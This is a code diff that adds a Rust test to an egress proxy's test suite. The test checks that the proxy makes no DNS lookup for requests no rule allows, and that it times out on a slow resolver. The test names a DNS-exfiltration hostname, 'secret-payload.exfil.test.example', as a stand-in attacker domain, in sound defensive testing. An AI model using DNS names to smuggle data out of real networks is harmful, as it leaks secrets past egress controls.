@@ -877,6 +877,78 @@ async fn ports_methods_and_paths_outside_the_rule_are_refused() {
     assert_eq!(up.request_count(), 2);
 }
 
+/// A DNS query is traffic whose name the client picks (`secret-payload.exfil.example` carries
+/// data to whoever serves that zone): the proxy looks a name up only when a CIDR rule takes the
+/// request on port, method and path, and gives a resolver no longer than `connect_timeout`.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_name_is_looked_up_only_when_a_cidr_rule_could_take_the_request() {
+    let up = RecordingUpstream::start().await;
+    let port = up.port();
+    let checked_port = if port == 65535 { port - 1 } else { port + 1 };
+    let exfil = "secret-payload.exfil.test.example";
+    let resolver = TestResolver::new(&[
+        (exfil, &["127.0.0.1"]),
+        ("collector.test.example", &["127.0.0.1"]),
+    ]);
+    resolver.hang("slow.test.example");
+    let mut s = yaml_section(&format!(
+        "rules:\n  - name: push\n    upstream: \"127.0.0.1/32:{port}\"\n    methods: [POST]\n    path_prefix: /api/\n  - name: checked\n    upstream: \"127.0.0.1/32:{checked_port}\"\n    validate: {{json: true}}\n"
+    ));
+    s.connect_timeout = ferry::config::Dur(Duration::from_millis(300));
+    let proxy = TestEgress::start(s, resolver.clone()).await;
+
+    for (method, url) in [
+        ("POST", format!("http://{exfil}:1/api/x")),
+        ("GET", format!("http://{exfil}:{port}/api/x")),
+        ("POST", format!("http://{exfil}:{port}/admin")),
+    ] {
+        let resp = exchange(proxy.addr, absolute(method, &url, &[], "x")).await;
+        assert_refused(&resp, 403, "is not allowed", &format!("{method} {url}"));
+    }
+    // A CONNECT: to a port no rule names, and to a rule that reads payloads (no tunnel ever).
+    for authority in [format!("{exfil}:1"), format!("{exfil}:{checked_port}")] {
+        let (resp, _) = connect_raw(proxy.addr, &authority, &[]).await;
+        assert_eq!(resp.status, 403, "CONNECT {authority}: {resp:?}");
+    }
+    assert_eq!(
+        resolver.calls(exfil),
+        0,
+        "a request no rule allows made a DNS lookup"
+    );
+    up.assert_untouched("refused without a lookup");
+
+    let resp = post_via(
+        proxy.addr,
+        &format!("http://collector.test.example:{port}/api/x"),
+        &[],
+        b"x",
+    )
+    .await;
+    assert_eq!(resp.status, 200, "{}", resp.text());
+    assert!(resolver.calls("collector.test.example") >= 1);
+
+    let started = Instant::now();
+    let resp = post_via(
+        proxy.addr,
+        &format!("http://slow.test.example:{port}/api/x"),
+        &[],
+        b"x",
+    )
+    .await;
+    assert_refused(
+        &resp,
+        502,
+        "cannot resolve slow.test.example: no answer within 300ms",
+        "a resolver that does not answer",
+    );
+    assert!(
+        started.elapsed() < Duration::from_secs(3),
+        "answered after {:?}",
+        started.elapsed()
+    );
+    assert_eq!(up.request_count(), 1);
+}
+
 /// When no rule allows a request, the refusal names the closest miss: the path, when a rule
 /// allows the method but not under that path (not the method of a CONNECT-only rule for the
 /// same destination); the method, when only the method is wrong.
